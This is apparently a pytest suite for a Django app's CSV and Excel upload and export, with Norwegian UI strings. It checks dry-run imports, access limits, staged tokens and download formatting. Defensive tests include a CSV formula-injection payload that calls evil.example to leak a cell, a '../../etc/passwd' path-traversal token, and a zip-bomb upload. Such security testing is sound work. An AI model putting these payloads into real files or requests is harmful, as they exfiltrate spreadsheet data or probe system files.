"""Uploading a file of values (check, then import) and downloading values, on the web."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from malekort.figures.models import ValueVersion
from malekort.registration.models import StagedUpload

GOOD = "period,area,code,value,comment\n2024-03,030102,SH_MOTTAKERE,120,\n2024-03,030102,SH_BARN,.,\n"
BAD = GOOD + "2024-03,030102,SH_UNDER30,2,\n2024-03,030101,SH_MOTTAKERE,50,\n"


def upload(client, text: str, *, valid_only: bool = False):  # type: ignore[no-untyped-def]
    data = {"file": SimpleUploadedFile("tall.csv", text.encode("utf-8"), "text/csv"), "action": "check"}
    if valid_only:
        data["valid_only"] = "on"
    return client.post(reverse("upload"), data)


def test_a_checked_file_is_imported_only_when_confirmed(client, world):
    client.force_login(world.alice)
    checked = upload(client, GOOD)
    assert checked.status_code == 200
    assert ValueVersion.objects.count() == 0  # the check is a dry run
    html = checked.content.decode()
    assert "Nye verdier: 2" in html and "Prøvekjøring" in html
    token = checked.context["token"]
    imported = client.post(reverse("upload"), {"token": token, "action": "import"})
    assert imported.status_code == 200
    assert "Verdiene er lagret" in imported.content.decode()
    saved = {v.figure_id: v for v in ValueVersion.objects.filter(superseded_at__isnull=True)}
    assert saved["SH_MOTTAKERE"].number == 120 and saved["SH_MOTTAKERE"].source == "file"
    assert saved["SH_BARN"].kind == "dot"


def test_refused_lines_are_listed_and_only_the_valid_lines_are_offered(client, world):
    client.force_login(world.alice)
    response = upload(client, BAD)
    assert response.status_code == 400
    html = response.content.decode()
    refused = {line.line_no: line.reason for line in response.context["report"].refused}
    assert set(refused) == {4, 5}
    assert "prikk" in refused[4]
    assert "tilgang" in refused[5]  # Gamle Oslo is not Alice's office
    assert "Importer filen" not in html
    assert "Importer de gyldige linjene" in html
    assert "importer de 2 gyldige linjene nå uten å velge filen igjen" in html
    assert ValueVersion.objects.count() == 0


def test_the_valid_lines_are_imported_from_the_result_page_without_the_file(client, world):
    client.force_login(world.alice)
    token = upload(client, BAD).context["token"]
    assert StagedUpload.objects.count() == 1
    imported = client.post(reverse("upload"), {"token": token, "action": "import", "valid_only": "on"})
    assert imported.status_code == 200
    assert "Verdiene er lagret" in imported.content.decode()
    assert sorted(ValueVersion.objects.values_list("figure_id", flat=True)) == ["SH_BARN", "SH_MOTTAKERE"]
    assert StagedUpload.objects.count() == 0  # gone once imported


def test_a_file_with_refused_lines_is_not_imported_whole(client, world):
    client.force_login(world.alice)
    token = upload(client, BAD).context["token"]
    response = client.post(reverse("upload"), {"token": token, "action": "import"})
    assert response.status_code == 400
    assert ValueVersion.objects.count() == 0
    assert "Importer de gyldige linjene" in response.content.decode()  # still offered


def test_valid_lines_only_when_the_user_asks(client, world):
    client.force_login(world.alice)
    checked = upload(client, BAD, valid_only=True)
    token = checked.context["token"]
    assert 'value="import"' in checked.content.decode()
    client.post(reverse("upload"), {"token": token, "action": "import", "valid_only": "on"})
    assert ValueVersion.objects.filter(superseded_at__isnull=True).count() == 2


def test_a_file_of_another_kind_is_refused(client, world):
    client.force_login(world.alice)
    response = client.post(
        reverse("upload"),
        {"file": SimpleUploadedFile("tall.txt", b"hei", "text/plain"), "action": "check"},
    )
    assert response.status_code == 400
    assert "CSV (.csv) eller Excel (.xlsx)" in response.content.decode()


def test_someone_elses_upload_token_is_not_found(client, world):
    client.force_login(world.alice)
    token = upload(client, GOOD).context["token"]
    client.force_login(world.hallvard)
    response = client.post(reverse("upload"), {"token": token, "action": "import"})
    assert response.status_code == 400
    assert ValueVersion.objects.count() == 0


def _register(client, user) -> None:  # type: ignore[no-untyped-def]
    client.force_login(user)
    token = upload(client, GOOD).context["token"]
    client.post(reverse("upload"), {"token": token, "action": "import"})


def test_export_csv_has_symbols_and_only_the_users_areas(client, world):
    _register(client, world.alice)
    hallingdal = "period,area,code,value,comment\n2024-03,3324,SH_MOTTAKERE,40,\n"
    client.force_login(world.hallvard)
    client.post(reverse("upload"), {"token": upload(client, hallingdal).context["token"], "action": "import"})

    client.force_login(world.alice)
    response = client.get(reverse("export"), {"first": "2024-01", "last": "2024-12", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {r["area"] for r in rows} == {"030102"}
    by_code = {r["code"]: r for r in rows}
    assert by_code["SH_MOTTAKERE"]["value"] == "120" and by_code["SH_MOTTAKERE"]["status"] == ""
    assert by_code["SH_BARN"]["value"] == "" and by_code["SH_BARN"]["status"] == ":"


def test_export_excel_opens_with_the_same_values(client, world):
    _register(client, world.alice)
    response = client.get(reverse("export"), {"format": "xlsx", "first": "", "last": ""})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:6] == ("period", "area", "code", "value", "comment", "status")
    values = {(r[1], r[2]): (r[3], r[5]) for r in rows[1:]}
    assert values[("030102", "SH_MOTTAKERE")][0] == 120
    assert values[("030102", "SH_BARN")][1] == ":"


def test_export_with_a_bad_month_says_why(client, world):
    client.force_login(world.alice)
    response = client.get(reverse("export"), {"first": "2024-13", "format": "csv"})
    assert response.status_code == 400
    assert "ÅÅÅÅ-MM" in response.content.decode() or "01–12" in response.content.decode()


HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)")


def test_the_download_neutralises_formulas_in_comments(client, world):
    lines = [
        f'2024-03,030102,{code},50,"{text.replace(chr(34), chr(34) * 2)}"'
        for code, text in zip(("SH_MOTTAKERE", "SH_HOVEDKILDE", "SH_UNDER30", "SH_LANGTID"), HOSTILE, strict=True)
    ]
    client.force_login(world.alice)
    checked = upload(client, "period,area,code,value,comment\n" + "\n".join(lines) + "\n")
    assert checked.status_code == 200, checked.context["report"].refused
    client.post(reverse("upload"), {"token": checked.context["token"], "action": "import"})
    response = client.get(reverse("export"), {"first": "2024-03", "last": "2024-03", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert sorted(row["comment"] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert {row["value"] for row in rows} == {"50"}
    workbook = client.get(reverse("export"), {"first": "2024-03", "last": "2024-03", "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content)).active
    comments = [(cell.value, cell.data_type) for cell in sheet["E"][1:]]
    assert sorted(comments) == sorted((text, "s") for text in HOSTILE)


def test_a_zip_bomb_is_refused_with_a_short_page(client, world):
    from zip_bomb import zip_bomb_xlsx

    client.force_login(world.alice)
    bomb = SimpleUploadedFile("tall.xlsx", zip_bomb_xlsx(), "application/octet-stream")
    response = client.post(reverse("upload"), {"file": bomb, "action": "check"})
    assert response.status_code == 400
    html = response.content.decode()
    assert "Excel-filen pakker seg ut til 1024 MB; grensen er 250 MB" in html
    assert len(response.content) < 50_000
    assert "AAAAAAAAAA" not in html


def test_a_utf_16_file_gets_a_word_about_the_encoding(client, world):
    client.force_login(world.alice)
    response = client.post(reverse("upload"), {
        "file": SimpleUploadedFile("tall.csv", GOOD.encode("utf-16"), "text/csv"), "action": "check",
    })
    assert response.status_code == 400
    html = response.content.decode()
    assert "UTF-16" in html and "ÿþ" not in html


def test_the_checked_file_waits_in_the_database_for_any_process(client, world, settings, tmp_path):
    settings.VAR_DIR = tmp_path
    client.force_login(world.alice)
    token = upload(client, GOOD).context["token"]
    [staged] = StagedUpload.objects.all()
    assert (staged.owner, staged.filename, bytes(staged.data)) == (world.alice, "tall.csv", GOOD.encode())
    # Another process (another session of the same user) confirms it.
    other = Client()
    other.force_login(world.alice)
    response = other.post(reverse("upload"), {"token": token, "action": "import"})
    assert "Verdiene er lagret" in response.content.decode()
    assert list(tmp_path.iterdir()) == []  # nothing on the process's disk


def test_a_refused_file_or_one_with_nothing_to_import_is_not_kept(client, world):
    client.force_login(world.alice)
    assert upload(client, "period,area,verdi\n").status_code == 400
    only_refused = "period,area,code,value,comment\n2024-03,030101,SH_MOTTAKERE,50,\n"
    assert upload(client, only_refused).context["token"] == ""
    assert StagedUpload.objects.count() == 0


def test_a_checked_file_is_kept_one_hour(client, world):
    client.force_login(world.alice)
    token = upload(client, GOOD).context["token"]
    StagedUpload.objects.update(created_at=timezone.now() - timedelta(minutes=61))
    response = client.post(reverse("upload"), {"token": token, "action": "import"})
    assert response.status_code == 400
    assert "tas vare på i en time" in response.content.decode()
    assert ValueVersion.objects.count() == 0
    # The next upload clears it; so does the command.
    upload(client, GOOD)
    assert StagedUpload.objects.filter(token=token).count() == 0
    StagedUpload.objects.update(created_at=timezone.now() - timedelta(hours=2))
    out = io.StringIO()
    call_command("clear-uploads", stdout=out)
    assert "Slettet 1 kontrollerte filer" in out.getvalue()
    assert StagedUpload.objects.count() == 0


def test_a_malformed_token_is_not_found(client, world):
    client.force_login(world.alice)
    response = client.post(reverse("upload"), {"token": "../../etc/passwd", "action": "import"})
    assert response.status_code == 400
    assert "Fant ikke den kontrollerte filen" in response.content.decode()


def test_a_file_refusing_many_lines_shows_the_first_thousand(client, world):
    client.force_login(world.alice)
    lines = [f"2024-03,030101,SH_MOTTAKERE,{n + 4}," for n in range(1_500)]  # Gamle Oslo: not Alice's
    response = upload(client, "period,area,code,value,comment\n" + "\n".join(lines) + "\n")
    assert len(response.context["report"].refused) == 1_500
    html = response.content.decode()
    assert html.count('<td class="aksel-table__data-cell">') == 2 * 1_000
    assert "Viser de første 1000 avviste linjene; 500 til er ikke vist." in html
